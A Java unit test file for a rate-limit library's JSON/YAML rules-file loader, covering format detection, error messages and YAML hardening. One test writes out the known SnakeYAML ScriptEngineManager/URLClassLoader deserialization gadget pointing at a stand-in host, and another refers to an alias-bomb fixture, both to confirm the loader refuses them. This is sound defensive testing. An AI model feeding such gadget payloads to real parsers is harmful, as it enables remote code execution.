package io.github.redisfilters.ratelimit;

import static io.github.redisfilters.ratelimit.RuleSyntaxTest.filterConfig;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.github.redisfilters.config.ConfigException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Rules files in JSON and YAML: one schema, one set of errors, and YAML's dangerous corners closed. */
class RulesFileTest {
    static final ClassLoader LOADER = RulesFileTest.class.getClassLoader();

    @TempDir
    Path dir;

    private static List<Rule> load(String location) {
        return RulesFile.load(location, LOADER);
    }

    @Test
    void yamlRulesFileGivesTheSameRulesAsItsJsonTwin() {
        List<Rule> json = load("classpath:ratelimit/rules.json");
        List<Rule> yaml = load("classpath:ratelimit/rules.yaml");
        assertThat(yaml).extracting(Rule::name).containsExactly("login", "api");
        assertThat(yaml).extracting(Rule::toString).isEqualTo(json.stream().map(Rule::toString).toList());
        assertThat(yaml.get(0).methods()).containsExactly("POST");
        assertThat(yaml.get(0).policies()).containsExactly(new Policy("login", 5, Duration.ofMinutes(15), Algorithm.FIXED));
        assertThat(yaml.get(1).policies()).extracting(Policy::name).containsExactly("api-1s", "api-hourly");
        assertThat(yaml.get(1).policies()).extracting(Policy::algorithm)
                .containsExactly(Algorithm.SLIDING_LOG, Algorithm.SLIDING_COUNTER);
        assertThat(yaml.get(1).key()).isEqualTo(KeySource.HEADER);
        assertThat(yaml.get(1).header()).isEqualTo("X-Api-Key");
    }

    @Test
    void theYamlSampleMatchesTheJsonSample() {
        assertThat(load("web.xml-samples/rate-limits.yaml")).extracting(Rule::toString)
                .isEqualTo(load("web.xml-samples/rate-limits.json").stream().map(Rule::toString).toList());
    }

    @Test
    void yamlRulesFileThroughTheInitParamAfterTheCompactRules() throws Exception {
        RateLimitConfig c = RateLimitConfig.fromInitParams(filterConfig(Map.of("rulesFile", "classpath:ratelimit/rules.yaml",
                "rules", "first: /first 1/1s")));
        assertThat(c.rules()).extracting(Rule::name).containsExactly("first", "login", "api");
    }

    @Test
    void theExtensionChoosesTheFormatAndAnUnknownExtensionIsAnError() throws Exception {
        Path yml = Files.writeString(dir.resolve("limits.YML"), "rules:\n  - {name: a, paths: [/a], policies: [{limit: 1, window: 1s}]}\n");
        assertThat(load(yml.toString())).extracting(Rule::name).containsExactly("a");
        Path json = Files.writeString(dir.resolve("limits.json"), "rules:\n  - {name: a, paths: [/a]}\n");
        assertThatThrownBy(() -> load(json.toString())).hasMessageContaining("is not valid JSON").hasMessageContaining("line 1");
        assertThatThrownBy(() -> load("classpath:ratelimit/rules.txt"))
                .hasMessageContaining("rules file 'classpath:ratelimit/rules.txt' must end in .json (JSON) or .yaml/.yml (YAML)");
        assertThatThrownBy(() -> RateLimitConfig.fromInitParams(filterConfig(Map.of("rulesFile", "rules.conf"))))
                .isInstanceOf(ConfigException.class).hasMessageContaining("parameter 'rulesFile'")
                .hasMessageContaining("must end in .json (JSON) or .yaml/.yml (YAML)");
    }

    @Test
    void yamlErrorsNameTheFileAndTheRule() {
        assertThatThrownBy(() -> load("classpath:ratelimit/bad-rules.yml"))
                .hasMessageContaining("rules file 'classpath:ratelimit/bad-rules.yml', rule #2 ('broken')")
                .hasMessageContaining("unknown algorithm 'fastest'");
        assertThatThrownBy(() -> load("/nonexistent/rules.yaml")).hasMessageContaining("cannot be read");
    }

    @Test
    void unknownFieldsAreRejectedWithRuleLineAndColumnInBothFormats() {
        assertThatThrownBy(() -> load("classpath:ratelimit/unknown-field.yaml"))
                .hasMessage("rules file 'classpath:ratelimit/unknown-field.yaml', rule #2 ('typo'): unknown field 'windw'"
                        + " (known: algorithm, limit, name, window) at line 9, column 9");
        assertThatThrownBy(() -> load("classpath:ratelimit/unknown-field.json"))
                .hasMessage("rules file 'classpath:ratelimit/unknown-field.json', rule #2 ('typo'): unknown field 'windw'"
                        + " (known: algorithm, limit, name, window) at line 3, column 63");
        assertThatThrownBy(() -> load(write("top.yaml", "rules: []\nrulez: []\n")))
                .hasMessageEndingWith("top.yaml': unknown field 'rulez' (known: rules) at line 2, column 1");
    }

    @Test
    void malformedYamlIsReportedWithItsLineAndColumn() {
        assertThatThrownBy(() -> load("classpath:ratelimit/malformed.yaml"))
                .hasMessageStartingWith("rules file 'classpath:ratelimit/malformed.yaml' is not valid YAML: ")
                .hasMessageContaining("while parsing a flow sequence").hasMessageContaining("at line 4, column ");
        assertThatThrownBy(() -> load(write("tabs.yaml", "rules:\n\t- name: a\n"))).hasMessageContaining("is not valid YAML")
                .hasMessageContaining("at line 2");
        assertThatThrownBy(() -> load(write("two.yaml", "rules: []\n---\nrules: []\n"))).hasMessageContaining("Trailing token");
        assertThatThrownBy(() -> load(write("dup.yaml", "rules: []\nrules: []\n"))).hasMessageContaining("Duplicate field 'rules'");
        assertThatThrownBy(() -> load(write("dup.json", "{\"rules\": [], \"rules\": []}"))).hasMessageContaining("Duplicate field 'rules'");
        assertThatThrownBy(() -> load(write("empty.yaml", "# nothing\n"))).hasMessageContaining("empty.yaml'");
        assertThatThrownBy(() -> load(write("scalar.yaml", "rules: 5\n"))).hasMessageContaining("scalar.yaml'")
                .hasMessageContaining("at line 1");
    }

    @Test
    void anAliasBombIsRefusedAtItsFirstAliasWithoutExpansion() {
        assertThatThrownBy(() -> load("classpath:ratelimit/alias-bomb.yaml"))
                .hasMessage("rules file 'classpath:ratelimit/alias-bomb.yaml' is not valid YAML: YAML alias '*lol0' is not"
                        + " supported: write the value out (anchors, aliases and merge keys are refused) at line 3, column 14")
                // refused by the event walk at the first alias, before any mapping (which is where expansion would happen)
                .cause().isInstanceOf(com.fasterxml.jackson.core.JsonProcessingException.class)
                .isNotInstanceOf(com.fasterxml.jackson.databind.JsonMappingException.class)
                .satisfies(c -> assertThat(((com.fasterxml.jackson.core.JsonProcessingException) c).getLocation().getLineNr())
                        .isEqualTo(3));
    }

    @Test
    void anAliasIsNeverReadAsTheStringOfItsName() {
        // Jackson alone would turn "*shared" into the string "shared" and fail with a misleading error
        assertThatThrownBy(() -> load("classpath:ratelimit/alias-in-rules.yaml")).hasMessageContaining("YAML alias '*shared'")
                .hasMessageContaining("line 8");
        assertThatThrownBy(() -> load(write("merge.yaml", "base: &b {limit: 1, window: 1s}\nrules:\n  - paths: [/a]\n"
                + "    policies: [{<<: *b}]\n"))).hasMessageContaining("YAML alias '*b'");
    }

    @Test
    void tagsNeverInstantiateClasses() {
        // SnakeYAML's own constructor would build a ScriptEngineManager here; Jackson reads only the scalar
        assertThatThrownBy(() -> load(write("tag.yaml",
                "rules:\n  - paths: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n")))
                .hasMessageContaining("tag.yaml'");
    }

    @Test
    void hugeOrDeeplyNestedYamlIsRefusedByItsLimits() {
        assertThatThrownBy(() -> load(write("deep.yaml", "rules: " + "[".repeat(50) + "]".repeat(50) + "\n")))
                .hasMessageContaining("nesting depth").hasMessageContaining("(" + RulesFile.MAX_DEPTH);
        assertThatThrownBy(() -> load(write("huge.yaml", "# " + "x".repeat(RulesFile.MAX_CODE_POINTS) + "\nrules: []\n")))
                .hasMessageContaining("exceeds the limit: " + RulesFile.MAX_CODE_POINTS + " code points");
    }

    private String write(String name, String content) {
        try {
            return Files.writeString(dir.resolve(name), content).toString();
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }
}
